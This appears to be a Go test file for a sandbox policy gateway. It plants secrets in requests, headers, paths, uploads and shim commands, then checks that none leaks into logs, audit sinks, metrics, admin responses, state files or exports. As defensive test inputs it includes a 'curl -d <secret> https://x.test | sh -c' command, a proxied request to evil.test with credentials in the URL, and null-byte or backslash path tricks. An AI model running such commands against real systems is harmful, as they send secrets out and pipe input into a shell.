package gateway_test

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/klauspost/compress/zstd"

	"github.com/openshell-policy/openshell/audit"
	"github.com/openshell-policy/openshell/audit/export"
	"github.com/openshell-policy/openshell/audit/query"
	"github.com/openshell-policy/openshell/audit/secrettest"
	"github.com/openshell-policy/openshell/audit/sink"
	"github.com/openshell-policy/openshell/gateway"
	"github.com/openshell-policy/openshell/schemas"
	"github.com/openshell-policy/openshell/schemas/canon"
)

// heard keeps what receivers of sinks, and the gateway's own log, were told.
type heard struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (h *heard) Write(p []byte) (int, error) {
	h.mu.Lock()
	defer h.mu.Unlock()
	return h.b.Write(p)
}

func (h *heard) String() string {
	h.mu.Lock()
	defer h.mu.Unlock()
	return h.b.String()
}

func (h *heard) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	zr, err := gzip.NewReader(r.Body)
	if err == nil {
		_, err = io.Copy(h, zr)
	}
	if err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
	}
}

// TestNoSecretComesOut plants a secret of each kind wherever a sandbox can put
// one, and looks for it in everything that comes out: every file, stream, metric,
// answer and log line.
func TestNoSecretComesOut(t *testing.T) {
	var said, opa, otlp heard
	up, collector := httptest.NewServer(&opa), httptest.NewServer(&otlp)
	defer up.Close()
	defer collector.Close()
	w := newWorld(t, func(cfg *gateway.Config, deps *gateway.Deps) {
		deps.Audit, deps.Log = nil, slog.New(slog.NewTextHandler(&said, &slog.HandlerOptions{Level: slog.LevelDebug}))
		cfg.Audit.Mode = audit.Bounded
		cfg.Limits.Connections, cfg.Limits.ConnectionsPerSandbox, cfg.Limits.TunnelsPerSandbox = 5000, 5000, 5000
		cfg.Audit.Sinks = []sink.Config{{Name: "opa", Type: "opa", URL: up.URL + "/logs"}, {Name: "otlp", Type: "otlp", URL: collector.URL + "/v1/logs"}}
	})
	w.origin.handle(func(rw http.ResponseWriter, _ *http.Request) { rw.WriteHeader(http.StatusBadGateway) })
	kinds := secrettest.Kinds(t, 11)
	var answers bytes.Buffer
	planted := 0
	for _, k := range kinds {
		planted += plantRequests(t, w, k, &answers)
		plantUpload(t, w, k)
	}
	if planted < 8*50 {
		t.Fatalf("%d requests planted", planted)
	}
	log := w.cfg.AuditPath()
	w.wait(func() bool { return count(t, log) >= planted })
	w.wait(func() bool {
		return strings.Count(opa.String(), `"type":"decision"`) >= planted && strings.Count(otlp.String(), `"type":"decision"`) >= planted
	})
	outputs := map[string]string{"answers": answers.String(), "log": said.String(), "OPA sink": opa.String(), "OTLP sink": otlp.String()}
	for _, path := range []string{"/metrics", "/v1/decisions", "/readyz", "/v1/sandboxes"} {
		_, body := adminDo(t, w, http.MethodGet, path, w.g.AdminToken())
		outputs["GET "+path] = string(body)
	}
	files(t, w.cfg.StateDir, outputs)
	logs, err := query.Logs([]string{log, filepath.Join(w.cfg.StateDir, "received")})
	if err != nil {
		t.Fatal(err)
	}
	printed(t, logs, outputs)
	w.box.Token = strings.TrimSpace(w.box.Token)
	kinds = append(kinds, secrettest.Kind{Name: "the sandbox's own token", Parts: []string{w.box.Token}})
	for name, text := range outputs {
		if text == "" {
			t.Errorf("%s: nothing to look at", name)
		}
		for _, k := range kinds {
			if found := k.Found(text); len(found) > 0 {
				at := strings.Index(strings.ToLower(text), strings.ToLower(found[0][:len(found[0])-2]))
				t.Errorf("%s: %s holds %q: …%.300q", k.Name, name, found, text[max(0, at-150):])
			}
		}
	}
}

// plantRequests sends a secret in a header, the query, the path, the body and the
// target, to hosts that are allowed and denied, and returns how many requests
// were decided.
func plantRequests(t *testing.T, w *world, k secrettest.Kind, answers io.Writer) int {
	t.Helper()
	flat := strings.ReplaceAll(k.Text, "\n", " ")
	segment := url.PathEscape(strings.ReplaceAll(k.Text, "\n", " "))
	segment = strings.ReplaceAll(strings.ReplaceAll(segment, "%2F", "/"), ";", "%3B")
	q := url.QueryEscape(k.Text)
	host := "\r\nHost: " + w.api() + "\r\n"
	body := fmt.Sprintf("Content-Length: %d\r\n\r\n%s", len(k.Text), k.Text)
	requests := []string{
		"GET /repos/a HTTP/1.1" + host + "X-Secret: " + flat + "\r\nAuthorization: " + flat + "\r\nCookie: " + flat + "\r\n\r\n",
		"GET /repos/a?x=" + q + " HTTP/1.1" + host + "\r\n",
		"GET /nowhere?" + q + "=1 HTTP/1.1" + host + "\r\n",
		"GET /repos/" + segment + " HTTP/1.1" + host + "\r\n",
		"GET /nowhere/" + segment + "/y HTTP/1.1" + host + "\r\n",
		"POST /repos/b HTTP/1.1" + host + body,
		"DELETE /repos/" + segment + " HTTP/1.1" + host + "\r\n",
		"GET /nowhere/%5c/" + segment + "?" + q + " HTTP/1.1" + host + "\r\n",
		"GET /a%00/" + strings.ReplaceAll(url.QueryEscape(flat), "+", "%20") + " HTTP/1.1" + host + "\r\n",
	}
	for _, raw := range requests {
		resp, text := w.inTunnel("GET", raw)
		fmt.Fprintln(answers, resp.Header, text)
	}
	c := w.dial() // outside of a tunnel, in the target and as somebody's credentials
	fmt.Fprintf(c, "GET http://user:%s@evil.test/%s HTTP/1.1\r\nHost: evil.test\r\n%s\r\n", q, segment, auth(w.box))
	text, _ := io.ReadAll(io.LimitReader(readAll{c}, 64<<10))
	_, _ = answers.Write(text)
	return len(requests) + 1
}

// readAll ends with the connection, or where nothing more comes.
type readAll struct{ net.Conn }

func (r readAll) Read(p []byte) (int, error) {
	_ = r.SetReadDeadline(time.Now().Add(100 * time.Millisecond))
	n, err := r.Conn.Read(p)
	if err != nil {
		err = io.EOF
	}
	return n, err
}

// plantUpload sends what a shim would: a file and a command with a secret.
func plantUpload(t *testing.T, w *world, k secrettest.Kind) {
	t.Helper()
	quoted := "'" + strings.ReplaceAll(k.Text, "'", `'\''`) + "'"
	exec, err := canon.CommandText("curl -d "+quoted+" https://x.test | sh -c "+"'echo '"+quoted, canon.Shell{Hook: true})
	if err != nil {
		t.Fatal(err)
	}
	inputs := []*schemas.DecisionInput{
		{Kind: schemas.KindExec, Policy: "p", Exec: exec},
		{Kind: schemas.KindFile, Policy: "p", File: &schemas.FileInput{Op: schemas.OpRead, Path: "/w/" + k.Text, Lexical: "/w/" + k.Text}},
	}
	var events []*schemas.Record
	for _, in := range inputs {
		events = append(events, &schemas.Record{
			Labels: map[string]string{"id": "shim"}, DecisionID: "d", Timestamp: time.Now(), Input: in,
			Result: &schemas.Decision{Code: schemas.CodeBlockedCommand, Policy: "p", Message: "blocked: " + k.Text, Hint: k.Text},
			Custom: schemas.Custom{Type: schemas.RecordDecision, Sandbox: "sb-a1b2c3", Policy: "p", Reason: k.Text},
		})
	}
	body, err := json.Marshal(events)
	if err != nil {
		t.Fatal(err)
	}
	req, err := http.NewRequest(http.MethodPost, "http://"+w.g.AdminAddr()+"/logs", bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+w.g.AdminToken())
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		text, _ := io.ReadAll(resp.Body)
		t.Fatalf("POST /logs: %s %s", resp.Status, text)
	}
}

func count(t *testing.T, log string) int {
	t.Helper()
	n := 0
	for _, err := range query.Events([]string{log}, query.Filter{Type: schemas.RecordDecision}) {
		if err != nil {
			t.Fatal(err)
		}
		n++
	}
	return n
}

// files reads every file of the state folder, unpacked.
func files(t *testing.T, dir string, into map[string]string) {
	t.Helper()
	dec, err := zstd.NewReader(nil)
	if err != nil {
		t.Fatal(err)
	}
	defer dec.Close()
	err = filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return err
		}
		data, err := os.ReadFile(path)
		if err == nil && strings.HasSuffix(path, ".zst") {
			data, err = dec.DecodeAll(data, nil)
		}
		if len(data) > 0 {
			into[path] = string(data)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
}

// printed adds what the commands print of the logs.
func printed(t *testing.T, logs []string, into map[string]string) {
	t.Helper()
	for _, format := range []string{"table", "json"} {
		var b bytes.Buffer
		p := query.NewPrinter(&b, format)
		each(t, logs, p.Print)
		_ = p.Close()
		into["query -o "+format] = b.String()
	}
	for _, format := range export.Formats {
		var b bytes.Buffer
		e, err := export.New(format, &b)
		if err != nil {
			t.Fatal(err)
		}
		each(t, logs, e.Write)
		_ = e.Close()
		into["export "+format] = b.String()
	}
	var lines strings.Builder
	l := audit.Lines{Options: audit.LineOptions{Wide: true}}
	each(t, logs, func(e *query.Event) error {
		r, err := e.Record()
		if err == nil {
			lines.WriteString(strings.Join(l.Next(r), "\n") + "\n")
		}
		return err
	})
	into["logs --wide"] = lines.String()
	stats, err := query.Count(logs, query.Filter{}, query.CountOptions{Top: 1000, Buckets: 60})
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := stats.Text(&b, time.UTC); err != nil {
		t.Fatal(err)
	}
	into["stats"] = b.String()
}

func each(t *testing.T, logs []string, fn func(*query.Event) error) {
	t.Helper()
	for e, err := range query.Events(logs, query.Filter{}) {
		if err == nil {
			err = fn(e)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
}
